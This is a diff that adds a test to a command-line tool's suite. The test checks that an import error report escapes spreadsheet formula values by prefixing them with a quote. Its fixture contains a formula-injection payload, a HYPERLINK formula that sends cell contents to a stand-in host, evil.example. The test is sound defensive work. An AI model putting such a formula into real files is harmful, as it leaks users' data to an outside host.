@@ -197,3 +197,17 @@ def test_R23_cli_import_exclusion_list(cli: Cli, tmp_path: Path) -> None:
     assert refused.exit_code == 2
     assert "re-run with --confirm" in refused.stderr
     assert cli.json(*mass_args, "--confirm")["created"] == 1
+
+
+def test_R23_cli_import_error_report_writes_a_formula_value_as_text(
+    cli: Cli, tmp_path: Path
+) -> None:
+    cli.ok("init")
+    source = tmp_path / "leads.csv"
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with source.open("w", newline="", encoding="utf-8") as out:
+        csv.writer(out).writerows([["Email"], [attack], ["@SUM(1+1)"]])
+    result = cli.run("import", "people", str(source), "--map", "Email=email")
+    assert result.exit_code == 2
+    rows = list(csv.DictReader((tmp_path / "leads.errors.csv").open(encoding="utf-8")))
+    assert [r["value"] for r in rows] == [f"'{attack}", "'@SUM(1+1)"]
